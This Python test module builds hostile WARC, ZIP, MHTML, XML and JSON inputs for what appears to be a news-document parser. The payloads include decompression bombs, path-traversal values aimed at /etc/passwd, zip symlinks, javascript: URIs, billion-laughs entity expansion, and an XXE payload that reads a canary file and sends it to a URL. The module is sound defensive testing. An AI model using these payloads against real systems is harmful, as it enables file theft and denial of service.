"""Crawls, zips, messages and wire files that pack, repeat, name or nest what no sound tool would."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterator

import brotli
import zstandard

from newsdoc.model.codec import to_dict
from tests import stories
from tests.hostile.cases.making import BODY, Case, page, zipped
from tests.unit.pictures.samples import encoded, scene


def crawls(url: str, folder: str) -> Iterator[Case]:
    """Yield containers and wire files of the further classes."""
    yield from _records(folder)
    yield from _zips(folder)
    yield from _messages()
    yield from _wire(url, folder)
    yield from _models(folder)


def _case(name: str, content: bytes, suffix: str, **more: object) -> Case:
    given: dict[str, object] = {"outcome": "either", "seconds": 30.0, "absent": ("root:x:0",), **more}
    return Case(name=name, entry=f"{name}.{suffix}", files={f"{name}.{suffix}": content}, **given)  # type: ignore[arg-type]


def _record(
    body: bytes,
    *headers: str,
    uri: str = "https://news.example/1",
    date: str = "2024-03-05T10:00:00Z",
    more: str = "",
    kind: str = "response",
    mime: str = "application/http; msgtype=response",
    number: int = 1,
) -> bytes:
    block = (
        "\r\n".join(("HTTP/1.1 200 OK", *headers, "", "")).encode("utf-8", "surrogatepass") + body
        if mime.startswith("application/http")
        else body
    )
    head = (
        f"WARC/1.1\r\nWARC-Type: {kind}\r\nWARC-Record-ID: <urn:uuid:{number:032}>\r\nWARC-Target-URI: {uri}\r\n{more}"
        f"WARC-Date: {date}\r\nContent-Type: {mime}\r\nContent-Length: {len(block)}\r\n\r\n"
    )
    return head.encode("utf-8", "surrogatepass") + block + b"\r\n\r\n"


_TYPE = "Content-Type: text/html; charset=utf-8"


def _records(folder: str) -> Iterator[Case]:
    layers = page()
    for _ in range(60):
        layers = gzip.compress(layers, mtime=0)
    bomb = gzip.compress(gzip.compress(b"\0" * (200 << 20)))
    chunks = b"".join(b"1;%s\r\n%c\r\n" % (b"x" * 20, one) for one in page() * 20) + b"0\r\n\r\n"
    window = zstandard.ZstdCompressor(
        compression_params=zstandard.ZstdCompressionParameters(window_log=31, enable_ldm=False)
    )
    made = {
        "layers": _record(layers, _TYPE, "Content-Encoding: " + ", ".join(["gzip"] * 60)),
        "layers-lied-about": _record(layers, _TYPE, *["Content-Encoding: gzip"] * 60),
        "bomb-in-bomb": _record(bomb, _TYPE, "Content-Encoding: gzip, gzip"),
        "empty-members": _record(gzip.compress(b"") * 200_000 + gzip.compress(page()), _TYPE, "Content-Encoding: gzip"),
        "brotli-bomb": _record(brotli.compress(b"\0" * (300 << 20), quality=3), _TYPE, "Content-Encoding: br"),
        "zstd-bomb": _record(zstandard.compress(b"\0" * (300 << 20)), _TYPE, "Content-Encoding: zstd"),
        "zstd-window": _record(window.compress(page()), _TYPE, "Content-Encoding: zstd"),
        "zstd-size-lie": _record(b"\x28\xb5\x2f\xfd\xe0" + b"\xff" * 8 + b"\0" * 50, _TYPE, "Content-Encoding: zstd"),
        "one-byte-chunks": _record(chunks, _TYPE, "Transfer-Encoding: chunked"),
        "chunk-size": _record(b"f" * 5000 + b"\r\n" + page(), _TYPE, "Transfer-Encoding: chunked"),
        "chunk-negative": _record(b"-5\r\n" + page(), _TYPE, "Transfer-Encoding: chunked"),
        "many-headers": _record(page(), _TYPE, *(f"X-{n}: y" for n in range(40_000))),
        "folded-header": _record(page(), _TYPE, "X: y\r\n " + "z\r\n " * 100_000 + "w"),
        "uri-file": _record(page('<img src="canary.png">'), _TYPE, uri=f"file://{folder}/x.html"),
        "uri-script": _record(page(), _TYPE, uri="javascript:alert(1)"),
        "uri-long": _record(page(), _TYPE, uri="https://news.example/" + "a/../" * 12_000),
        "uri-odd": _record(page(), _TYPE, uri="https://news.example/\x1b]0;x\x07\u202e/../../etc/\ud800"),
        "date-9999": _record(page(), _TYPE, date="9999-12-31T23:59:59.999999999-12:00"),
        "date-99999": _record(page(), _TYPE, date="99999-01-01T00:00:00Z"),
        "date-none": _record(page(), _TYPE, date=""),
        "type-climbs": _record(page(), "Content-Type: text/html; charset=../../../../etc/passwd"),
        "type-odd": _record(page(), "Content-Type: text/html; charset=\x00; charset=utf-7; charset*0*=x''%41"),
        "crawl-in-crawl": _record(_record(page(), _TYPE), "Content-Type: application/warc"),
        "revisit-of-itself": _record(b"", _TYPE, kind="revisit", more="WARC-Refers-To: <urn:uuid:1>\r\nWARC-Refers-To-Target-URI: https://news.example/1\r\nWARC-Refers-To-Date: 2024-03-05T10:00:00Z\r\n"),
        "revisits-in-a-ring": b"".join(_record(b"", _TYPE, kind="revisit", number=n, uri=f"https://news.example/{n}", more=f"WARC-Refers-To-Target-URI: https://news.example/{(n + 1) % 500}\r\n") for n in range(500)),
        "segments": b"".join(_record(page()[n * 100 : n * 100 + 100], kind="continuation", number=n, more=f"WARC-Segment-Number: {n}\r\nWARC-Segment-Total-Length: {2**63}\r\nWARC-Segment-Origin-ID: <urn:uuid:1>\r\n") for n in range(20)),
        "digests": _record(page(), _TYPE, more="WARC-Payload-Digest: ../../x:" + "A" * 10_000 + "\r\nWARC-Block-Digest: sha1:\u202e\r\n"),
        "redirect-to-file": _record(b"", _TYPE, f"Location: file://{folder}/canary.txt").replace(b"200 OK", b"302 OK"),
        "resource": _record(page(), mime="text/html", kind="resource", uri=f"file://{folder}/a.html"),
        "status-odd": _record(page(), _TYPE).replace(b"HTTP/1.1 200 OK", b"HTTP/9.9 \xb2\xb2\xb2 \x00\x1b"),
        "pictures-many": _record(page("".join(f'<img src="{n}.png">' for n in range(3000))), _TYPE) + b"".join(_record(encoded("PNG", scene()), "Content-Type: image/png", uri=f"https://news.example/{n}.png", number=n + 2) for n in range(3000)),
    }  # fmt: skip
    for name, content in made.items():
        yield _case(f"warc-{name}", content, "warc")
    one = gzip.compress(_record(page(), _TYPE), mtime=0)
    yield _case("warc-members-empty", gzip.compress(b"", mtime=0) * 100_000 + one, "warc.gz")
    yield _case("warc-packed-twice", gzip.compress(one), "warc.gz")
    yield _case("warc-zeros", gzip.compress(b"\0" * (300 << 20)) + one, "warc.gz")
    yield _case("warc-newlines", gzip.compress(b"\r\n" * (100 << 20)) + one, "warc.gz")


def _zips(folder: str) -> Iterator[Case]:
    picture = encoded("PNG", scene())
    body = "".join(f'<figure><img src="page_files/{n}.png"><figcaption>Pier</figcaption></figure>' for n in "aAbc")

    def archive(*entries: tuple[str, bytes, int]) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as made:
            for name, content, method in entries:
                info = zipfile.ZipInfo(name)
                info.compress_type = method
                made.writestr(info, content)
        return out.getvalue()

    stored, packed = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        twice = archive(("page.html", page(body), packed), ("page.html", page("<script>alert(1)</script>"), packed))
    alike = archive(
        *((name, page(body), packed) for name in ("page.html", "PAGE.HTML", "Page.Html")),
        *((f"page_files/{name}.png", picture, stored) for name in ("a", "A", "\uff41", "caf\u00e9", "cafe\u0301")),
    )
    sound = zipped({"page.html": page(body), "page_files/a.png": picture})
    locked = bytearray(sound)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := locked.find(mark, start + 1)) >= 0:
            locked[start + at] |= 1
    method = sound.replace(struct.pack("<H", 8) + b"\0\0\x65", struct.pack("<H", 99) + b"\0\0\x65")
    strong = bytearray(archive(("page.html", page(), zipfile.ZIP_LZMA)))
    place = strong.find(b"\x5d\0\0", 30)
    strong[place + 1 : place + 5] = b"\xff\xff\xff\xff"
    made = {
        "twice": twice, "alike": alike, "locked": bytes(locked), "method": method, "lzma-dictionary": bytes(strong),
        "lzma-bomb": archive(("page.html", page(body), packed), ("page_files/a.png", b"\0" * (300 << 20), zipfile.ZIP_LZMA)),
        "bzip2-bomb": archive(("page.html", page(body), packed), ("page_files/a.png", b"\0" * (300 << 20), zipfile.ZIP_BZIP2)),
        "page-lzma": archive(("page.html", page(), zipfile.ZIP_LZMA)), "prefix": b"MZ" + b"\0" * 5000 + sound, "two-ends": sound + sound,
        "comment": sound[:-2] + struct.pack("<H", 65535) + sound[-22:] * 2900, "folder-page": archive(("page.html/", b"", stored), ("page.html/x.html", page(), packed)),
        "deep": archive(("a/" * 5000 + "page.html", page(), packed)), "only-pictures": archive(("a.png", picture, stored)), "empty": archive(),
        "nul": sound.replace(b"page.html", b"pag\0.html"), "not-utf-8": sound.replace(b"page.html", b"\xff\xfe\xfd\xfc.html"), "in-itself": zipped({"page.html": sound}),
        "twenty-deep": _nested(20), "page-is-a-link": zipped({"page.html": f"{folder}/canary.txt".encode()}, {"page.html": 0o120777}),
        "page-is-a-device": zipped({"page.html": b"", "b.html": page()}, {"page.html": 0o020666}),
    }  # fmt: skip
    for name, content in made.items():
        yield _case(f"zip-{name}", content, "zip")
    for name, content in {
        "gzip": gzip.compress(page()),
        "bzip2": bz2.compress(page()),
        "xz": lzma.compress(page()),
        "zlib": zlib.compress(page()),
        "gzip-bomb": gzip.compress(b" " * (300 << 20)),
    }.items():
        yield _case(f"packed-{name}", content, "html")


def _nested(depth: int) -> bytes:
    content = page()
    for _ in range(depth):
        content = zipped({"page.zip" if content[:2] == b"PK" else "page.html": content})
    return content


def _messages() -> Iterator[Case]:
    def message(*parts: str, boundary: str = "b") -> bytes:
        head = f'From: <Saved by Blink>\r\nSnapshot-Content-Location: https://news.example/1\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="{boundary}"\r\n\r\n'
        return (head + "".join(f"--{boundary}\r\n{part}\r\n" for part in parts) + f"--{boundary}--\r\n").encode()

    frame = "Content-Type: text/html\r\nContent-ID: <{0}>\r\nContent-Location: cid:{0}\r\n\r\n" + page(
        '<iframe src="cid:{1}"></iframe>'
    ).decode().replace("{", "{{").replace("}", "}}").replace("{{1}}", "{1}")
    picture = base64.b64encode(encoded("PNG", scene())).decode()
    made = {
        "frames-in-a-ring": message(*(frame.format(f"f{n}", f"f{(n + 1) % 50}") for n in range(50))),
        "same-names": message(frame.format("a", "a"), *(f"Content-Type: image/png\r\nContent-ID: <a>\r\nContent-Location: https://news.example/1\r\nContent-Transfer-Encoding: base64\r\n\r\n{picture}" for _ in range(2000))),
        "boundary-runs": message(frame.format("a", "b") + "\r\n--b" * 200_000),
        "boundary-of-dashes": message(frame.format("a", "b") + "-" * 1_000_000, boundary="-" * 60),
        "boundary-of-spaces": message(frame.format("a", "b") + " " * 1_000_000, boundary="a" + " " * 60 + "b"),
        "soft-breaks": message("Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + "=\r\n" * 500_000 + page().decode().replace("=", "=3D")),
        "lone-equals": message("Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + "=" * 1_000_000 + page().decode()),
        "parameters": message("Content-Type: text/html; " + "; ".join(f"a{n}=b" for n in range(30_000)) + "\r\n\r\n" + page().decode()),
        "comments": message("Content-Type: text/html" + " (" * 30_000 + "\r\n\r\n" + page().decode()),
    }  # fmt: skip
    for name, content in made.items():
        yield _case(f"mhtml-{name}", content, "mhtml")


def _wire(url: str, folder: str) -> Iterator[Case]:
    def item(body: str, more: str = "", root: str = "", declaration: str = "") -> str:
        return (
            f'{declaration}<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x:1" version="1" standard="NewsML-G2" standardversion="2.34" conformance="power" xml:lang="en" {root}>'
            '<itemMeta><itemClass qcode="ninat:text"/><provider literal="x"/><versionCreated>2024-03-05T10:00:00Z</versionCreated></itemMeta><contentMeta><headline>Ferry</headline>'
            f'{more}</contentMeta><contentSet><inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body>{body}</body></html></inlineXML></contentSet></newsItem>'
        )

    spaces = " ".join(f'xmlns:n{n}="urn:{n}" n{n}:a="1"' for n in range(20_000))
    made = {
        "attributes-many": item(BODY, root=" ".join(f'a{n}="1"' for n in range(200_000))), "namespaces": item(BODY, root=spaces),
        "namespaces-nested": item("".join(f'<p xmlns:n{n}="urn:{n}">' for n in range(200)) + "x" + "</p>" * 200 + BODY), "instructions": item("<?x y?>" * 200_000 + BODY),
        "comments": item("<!-- x -->" * 200_000 + BODY), "data-sections": item("<![CDATA[x]]>" * 100_000 + BODY), "base": item(f'<img xml:base="file://{folder}/" src="canary.png"/>{BODY}', root=f'xml:base="file://{folder}/"'),
        "language": item(BODY).replace('xml:lang="en"', 'xml:lang="../../../../etc/passwd"'), "version-1-1": item(BODY, declaration='<?xml version="1.1"?>'), "version-9": item(BODY, declaration='<?xml version="9.9" standalone="maybe"?>'),
        "utf-7": item(BODY, declaration='<?xml version="1.0" encoding="UTF-7"?>'), "encoding-lie": item(BODY, declaration='<?xml version="1.0" encoding="UTF-32"?>'), "encoding-path": item(BODY, declaration='<?xml version="1.0" encoding="../../etc/passwd"?>'),
        "include": item(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{folder}/canary.txt" parse="text"><xi:fallback><xi:include href="{url}/f"/></xi:fallback></xi:include>{BODY}'),
        "catalog": item(BODY).replace("<itemMeta>", f'<catalogRef href="{url}/c.xml"/><catalogRef href="file://{folder}/canary.txt"/><catalog><scheme alias="x" uri="javascript:alert(1)"/></catalog><itemMeta>'),
        "subjects": item(BODY, "".join(f'<subject qcode="a{n}:b"><name>S{n}</name></subject>' for n in range(30_000))), "creators": item(BODY, "".join(f'<creator literal="c{n}"><name>Ada {n}</name></creator>' for n in range(30_000))),
        "dates": item(BODY, "<contentCreated>99999-12-31T24:00:00+99:00</contentCreated><contentModified>-0001-01-01</contentModified>").replace("2024-03-05T10:00:00Z", "9999-12-31T23:59:59-14:00"),
        "guid": item(BODY).replace("urn:x:1", "../../../../tmp/zz_pwned\u202e&#10;x").replace('version="1"', f'version="{"9" * 5000}"'),
        "external-parameter": item(BODY, declaration=f'<!DOCTYPE newsItem [<!ENTITY % a SYSTEM "file://{folder}/canary.txt"><!ENTITY % b "<!ENTITY &#37; c SYSTEM \'{url}/?%a;\'>"> %b; %c;]>'),
        "parameters-double": item(BODY, declaration="<!DOCTYPE newsItem [<!ENTITY % a 'x'>" + "".join(f"<!ENTITY % p{n} '%p{n - 1};%p{n - 1};'>" for n in range(1, 60)) + "%p59;]>"),
        "notation": item(BODY, declaration=f'<!DOCTYPE newsItem [<!NOTATION n SYSTEM "file://{folder}/canary.txt"><!ENTITY e SYSTEM "{url}/e" NDATA n>]>'),
    }  # fmt: skip
    for name, text in made.items():
        yield _case(f"g2-{name}", text.encode(), "xml")
    message = '<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><header><sent>2024-03-05T10:00:00Z</sent></header><itemSet>{}</itemSet></newsMessage>'
    yield _case(
        "g2-message-of-many", message.format(item(BODY).replace("urn:x:1", "urn:x:{}") * 2000).encode(), "xml"
    )
    package = '<packageItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="p" version="1"><itemMeta><itemClass qcode="ninat:composite"/></itemMeta><groupSet root="a"><group id="a"><groupRef idref="b"/><itemRef residref="p"/></group><group id="b"><groupRef idref="a"/></group></groupSet></packageItem>'
    yield _case("g2-package-in-a-ring", message.format(package + item(BODY)).encode(), "xml")
    media = '<media media-type="image"><media-reference source="a{}.jpg"/><media-caption>Pier</media-caption></media>'
    yield _case(
        "nitf-media-many",
        f"<nitf><head><title>F</title></head><body><body.content>{BODY}{''.join(media.format(n) for n in range(20_000))}</body.content></body></nitf>".encode(),
        "xml",
        seconds=60.0,
    )
    feed = f'<rss version="2.0"><channel><item><title>x</title><link>file://{folder}/canary.txt</link></item></channel></rss>'
    yield _case("feed", feed.encode(), "xml")


def _models(folder: str) -> Iterator[Case]:
    sound = to_dict(stories.full_story())

    def every(value: object, name: str, new: object) -> object:
        if isinstance(value, dict):
            return {key: new if key == name else every(one, name, new) for key, one in value.items()}
        return [every(one, name, new) for one in value] if isinstance(value, list) else value

    changes = (
        ("sha256", "../../../../tmp/zz_pwned"), ("address", f"file://{folder}/canary.png"), ("address", f"{folder}/canary.png"), ("address", "javascript:alert(1)"),
        ("width", 10**400), ("height", -1), ("width", 1.5), ("guid", "../../tmp/zz_pwned"), ("guid", ""), ("language", "../../etc/passwd"), ("media_type", "image/../../x\n"),
        ("published", "9999-12-31T23:59:59-14:00"), ("published", "0001-01-01T00:00:00+14:00"), ("href", "javascript:alert(1)"), ("kind", "x"), ("version", 10**30),
        ("level", 10**9), ("direction", "up"), ("text", "\x00\ud800\ufffe\x1b[2J"), ("colspan", 10**12), ("ref", "x" * 100_000), ("identifier", "CON"), ("newsdoc", 99),
    )  # fmt: skip
    for number, (name, new) in enumerate(changes):
        content = json.dumps(every(sound, name, new)).encode()
        yield _case(f"model-{number}-{name}", content, "json", absent=("root:x:0", '"javascript:'))
    ninjs = {
        "uri": "urn:x:1",
        "type": "text",
        "language": "../../etc/passwd",
        "versioncreated": "99999-01-01",
        "headline": "F",
        "body_xhtml": BODY,
    }
    many = {
        f"a{n}": {
            "type": "picture",
            "headline": f"Pier {n}",
            "renditions": {f"r{m}": {"href": f"{n}-{m}.jpg", "width": 10**30} for m in range(3)},
        }
        for n in range(10_000)
    }
    yield _case("ninjs-associations", json.dumps({**ninjs, "associations": many}).encode(), "json", seconds=60.0)
    yield _case(
        "ninjs-values",
        json.dumps(
            {
                **ninjs,
                "byline": ["x"],
                "place": {"a": 1},
                "subject": [None, 1, [], {}],
                "copyrightnotice": 1e308,
                "usageterms": [[]],
            }
        ).encode(),
        "json",
    )
